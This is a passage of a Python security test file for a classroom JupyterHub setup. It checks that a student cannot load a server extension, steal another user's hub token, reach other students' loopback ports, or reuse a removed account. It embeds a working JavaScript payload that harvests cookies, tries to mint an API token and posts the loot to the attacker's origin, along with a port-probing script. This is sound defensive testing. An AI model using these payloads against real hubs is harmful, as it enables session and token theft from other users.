            f.write(self.request.body + b"\n")

def _jupyter_server_extension_points():
    return [{"module": "evilext"}]

def _load_jupyter_server_extension(app):
    base = app.web_app.settings["base_url"]
    app.web_app.add_handlers(".*", [(base + "evil", Page), (base + "evil/loot", Loot)])
'''

# the page's script: what a visitor's browser lets it read or do on the hub, reported to the page's own origin
EVIL_PAGE = r'''<!doctype html><title>notes</title><body><script>
(async () => {
  const hub = HUB, visitor = VISITOR, got = {cookie: document.cookie};
  const frame = document.createElement("iframe");
  const loaded = new Promise((ok) => { frame.onload = () => ok("loaded"); setTimeout(() => ok("timeout"), 10000); });
  frame.src = hub + "/hub/static/js/utils.js";  // a document (a framed image fires no load event in Chromium)
  document.body.appendChild(frame);
  got.frame = await loaded;
  try { got.framed = frame.contentWindow.document.cookie; } catch (e) { got.framed = "blocked: " + e.name; }
  const xsrf = ((got.framed || "").match(/_xsrf=([^;]+)/) || [])[1] || "";
  try {
    const r = await fetch(hub + "/hub/api/users/" + visitor + "/tokens", {method: "POST", credentials: "include",
      headers: {"X-XSRFToken": xsrf}, body: JSON.stringify({note: "stolen"})});
    got.token = r.status + " " + (await r.text());
  } catch (e) { got.token = "blocked: " + e.name; }
  await fetch(location.pathname + "/loot", {method: "POST", body: JSON.stringify(got)}).catch(() => {});
  window.__got = got;
})().catch((e) => { window.__failed = String(e); throw e; });
</script>'''


def restart_server(hub, name: str, token: str) -> None:
    assert hub.api("DELETE", f"/hub/api/users/{name}/server", token).status_code in (202, 204)
    deadline = time.monotonic() + 120
    while hub.api("GET", f"/hub/api/users/{name}", token).json()["servers"]:
        assert time.monotonic() < deadline, f"the server of {name} did not stop"
        time.sleep(0.5)
    hub.spawn(name, token)
    hub.wait_ready(name, token)


def test_a_students_server_extension_is_not_loaded_and_its_link_steals_no_token(room, chromium):
    """Issue 54's attack as it was done: a student writes a server extension and the config that enables it into
    their home (~/.jupyter JSON and Python config, ~/.local/share/jupyter, the module in the home and in
    ~/.local/lib), restarts their server; another student and the teacher, logged in to the hub, open its link in
    Chromium. The extension is not imported, its route 404s, no token is made. And had a page of the student's origin
    run (served here by Playwright in its place): it cannot read the hub's cookies or frame, and the hub refuses it a
    token."""
    import os
    import pwd

    r, hub, tokens = room
    attacker, visitor, teacher = NAMES[2], NAMES[0], r.teacher
    account = pwd.getpwnam(attacker)
    home = pathlib.Path(account.pw_dir)
    site = home / ".local" / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages"
    enable = json.dumps({"ServerApp": {"jpserver_extensions": {"evilext": True}}})
    files = {home / "evilext.py": EVIL_EXTENSION, site / "evilext.py": EVIL_EXTENSION,
             home / ".jupyter" / "jupyter_server_config.json": enable,
             home / ".jupyter" / "jupyter_server_config.d" / "evilext.json": enable,
             home / ".local" / "share" / "jupyter" / "jupyter_server_config.d" / "evilext.json": enable,
             home / ".local" / "etc" / "jupyter" / "jupyter_server_config.d" / "evilext.json": enable,
             home / ".jupyter" / "jupyter_server_config.py":
                 "import pathlib\npathlib.Path.home().joinpath('config-ran').write_text('ran')\n"
                 "c.ServerApp.jpserver_extensions = {'evilext': True}\n"}
    teacher_token = hub.login(teacher)
    who = {visitor: tokens[visitor], teacher: teacher_token}

    def token_ids(name):
        return sorted(t["id"] for t in hub.api("GET", f"/hub/api/users/{name}/tokens", who[name]).json()["api_tokens"])

    before = {n: token_ids(n) for n in who}
    made = []
    try:
        for path, text in files.items():
            for d in reversed([path.parent, *path.parent.parents]):
                if d.is_relative_to(home) and d != home and not d.exists():
                    d.mkdir()
                    made.append(d)
                    os.chown(d, account.pw_uid, account.pw_gid)
            path.write_text(text)
            os.chown(path, account.pw_uid, account.pw_gid)
        restart_server(hub, attacker, tokens[attacker])
        assert not (home / "ext-loaded").exists() and not (home / "config-ran").exists(), "the student's config ran"
        evil = f"{hub.user_url(attacker)}/evil"
        assert hub.request("GET", f"/user/{attacker}/evil", allow_redirects=False).status_code == 404
        assert hub.api("GET", f"/user/{attacker}/evil", tokens[attacker]).status_code == 404
        assert hub.user_url(attacker).startswith(f"https://{attacker}.{roomhub.HOST}:")  # its own origin
        for name in who:
            page_html = EVIL_PAGE.replace("HUB", json.dumps(hub.url)).replace("VISITOR", json.dumps(name))
            context = chromium.new_context(ignore_https_errors=True)
            try:
                page = context.new_page()
                page.goto(f"{hub.url}/hub/login?next=%2Fhub%2Fhome")
                page.fill("input[name=username]", name)
                page.fill("input[name=password]", r.passwords[name])
                page.click("input[type=submit], button[type=submit]")
                page.wait_for_url("**/hub/home", timeout=60000)
                # what there is to steal: the hub's login and its _xsrf cookie (path /hub/, readable by scripts)
                hub_cookies = {c["name"]: c["value"] for c in context.cookies(f"{hub.url}/hub/")}
                assert {"_xsrf", "jupyterhub-hub-login"} <= hub_cookies.keys(), hub_cookies.keys()
                # the real link: the extension is not there
                response = page.goto(evil)
                assert response.status == 404, (name, response.status, page.content()[:500])
                # the student's origin running the page anyway (Playwright answers in the server's place)
                page.route(evil, (lambda html: lambda route: route.fulfill(status=200, content_type="text/html",
                                                                            body=html))(page_html))
                page.route(f"{evil}/loot", lambda route: route.fulfill(status=204))
                errors = []
                page.on("pageerror", lambda e, errors=errors: errors.append(str(e)))
                page.goto(evil)
                page.wait_for_function("() => !!window.__got || !!window.__failed", timeout=30000)
                assert not errors, errors
                got = page.evaluate("() => window.__got")
                # (the student's server sets an _xsrf cookie of its own on its origin: not the hub's)
                assert hub_cookies["_xsrf"] not in got["cookie"] and "jupyterhub-hub-login" not in got["cookie"], got
                # the hub's file loaded in the frame, and the page cannot reach into it
                assert got["frame"] == "loaded" and got["framed"] == "blocked: SecurityError", got
                assert got["token"].startswith(("403", "blocked")), got
                print(f"\nroom: a page of {attacker}'s origin opened by {name}: {got}")
            finally:
                context.close()
        assert not (home / "loot").exists(), (home / "loot").read_text()
        assert {n: token_ids(n) for n in who} == before, "a token was made for a visitor"
    finally:
        for path in files:
            path.unlink(missing_ok=True)
        for d in reversed(made):
            shutil.rmtree(d, ignore_errors=True)
        for marker in ("ext-loaded", "config-ran", "loot"):
            (home / marker).unlink(missing_ok=True)


def test_a_removed_and_re_added_student_is_new_to_the_hub(room):
    """students.sh remove, then add with the same name (next course): the old token and the old login cookies get
    403 / the login page, on the hub and on the new account's server; the new account's own token works."""
    import os

    r, hub, tokens = room
    name = "ilab-again"
    script = r.root / "room" / "students.sh"

    def sh(*args):
        return subprocess.run(["bash", str(script), *args], capture_output=True, text=True, env=r.env(), timeout=180,
                              check=True).stdout

    def password(out):
        return out.splitlines()[1].split(",")[1]

    r.write_hosts([*r.names(), name])  # its name, NAME.HOST, as the room's wildcard DNS gives it
    try:
        r.passwords[name] = password(sh("add", name))
        old = hub.login(name)
        old_browser = requests.Session()
        old_browser.cookies.update(hub.login_form(name, r.passwords[name]).cookies)
        assert hub.request("GET", "/hub/home", session=old_browser, allow_redirects=False).status_code == 200
        tok = hub.api("GET", f"/hub/api/users/{name}/tokens", old).json()["api_tokens"]
        assert tok and all(t["expires_at"] for t in tok), tok  # the room's tokens expire
        hub.spawn(name, old)
        hub.wait_ready(name, old)
        sh("remove", name)  # the hub runs: through its REST API
        assert hub.api("GET", "/hub/api/user", old).status_code == 403
        r.passwords[name] = password(sh("add", name))
        new = hub.login(name)
        hub.spawn(name, new)
        hub.wait_ready(name, new)
        secret = f"/user/{name}/api/contents/interplab-notebooks/{NOTEBOOKS[0]}"
        assert hub.api("GET", secret, new).status_code == 200
        assert hub.api("GET", "/hub/api/user", old).status_code == 403
        assert hub.api("GET", f"/hub/api/users/{name}", old).status_code == 403
        assert hub.api("GET", secret, old).status_code in (403, 302)
        home = hub.request("GET", "/hub/home", session=old_browser, allow_redirects=False)
        assert home.status_code == 302 and "/hub/login" in home.headers["Location"], home.status_code
        assert hub.request("GET", secret, session=old_browser, allow_redirects=False).status_code != 200
    finally:
        with contextlib.suppress(Exception):
            sh("remove", name)
        r.passwords.pop(name, None)
        r.write_hosts(r.names())
    assert os.system(f"id {name} >/dev/null 2>&1") != 0


def test_no_student_reaches_another_students_loopback_ports(room):
    """A kernel on Unix sockets still listens on one loopback TCP port: ipykernel's IOPubThread pipe (a ZeroMQ PULL
    socket for forked children's output). Another student connects to every TCP port the victim's uid listens on
    (/proc/net/tcp): refused, by students.sh's firewall rule. The victim's own process connects to it, and a forked
    child's print still reaches the victim's notebook."""
    import pwd

    r, hub, tokens = room
    attacker, victim = NAMES[0], NAMES[1]
    kid = hub.start_session(victim, tokens[victim], roomhub.NOTEBOOK)
    try:
        ws = hub.connect(victim, tokens[victim], kid, 120)
        said = roomhub.execute(ws, "import os, time\nprint('pipe', get_ipython().kernel.iopub_thread._pipe_port)\n"
                                   "pid = os.fork()\nif pid == 0:\n    print('from the forked child', flush=True)\n"
                                   "    time.sleep(0.5)\n    os._exit(0)\nos.waitpid(pid, 0)\ntime.sleep(1)", 120,
                               where=victim)
        ws.close()
        assert "from the forked child" in said, said
        pipe = int(said.split("pipe ")[1].split()[0])
        probe = ("import json, socket, sys\nuid = int(sys.argv[1])\nports = sorted({int(f[1].rsplit(':', 1)[1], 16) "
                 "for t in ('/proc/net/tcp', '/proc/net/tcp6') for f in (l.split() for l in open(t).readlines()[1:])"
                 " if f[3] == '0A' and int(f[7]) == uid})\nout = {}\nfor p in ports:\n    s = socket.socket()\n"
                 "    s.settimeout(10)\n    try:\n        s.connect(('127.0.0.1', p))\n        out[p] = 'connected'\n"
                 "    except OSError as e:\n        out[p] = type(e).__name__\n    finally:\n        s.close()\n"
                 "print(json.dumps(out))")
        uid = str(pwd.getpwnam(victim).pw_uid)
        got = {}
        for who in (attacker, victim):
            run = subprocess.run(["runuser", "-u", who, "--", r.python, "-c", probe, uid], capture_output=True,
                                 text=True, timeout=300, cwd="/")
            got[who] = {int(k): v for k, v in json.loads(run.stdout.strip().splitlines()[-1]).items()}
    finally:
        hub.stop_kernels(victim, tokens[victim])
    assert pipe in got[attacker], (pipe, got)  # the kernel's pipe port is the victim's, in /proc/net/tcp
    assert set(got[attacker].values()) == {"ConnectionRefusedError"}, got[attacker]
    assert got[victim][pipe] == "connected", got[victim]
    print(f"\nroom: {attacker} -> {victim}'s {len(got[attacker])} loopback ports (the kernel's pipe {pipe} among "
          f"them): {sorted(set(got[attacker].values()))}; {victim} -> its own pipe: connected")


def test_the_password_lists_are_root_only_and_the_teacher_is_no_student(room):
    import grp
    import os

    r, hub, tokens = room
    for csv in ("passwords.csv", "teacher.csv"):
        assert oct(os.stat(r.home / csv).st_mode & 0o777) == "0o600", csv
    assert r.teacher in grp.getgrnam(roomhub.TEACHERS).gr_mem
    assert r.teacher not in grp.getgrnam(roomhub.GROUP).gr_mem  # ROOM.md's SSH DenyGroups names the students'
    assert set(NAMES) <= set(grp.getgrnam(roomhub.GROUP).gr_mem)
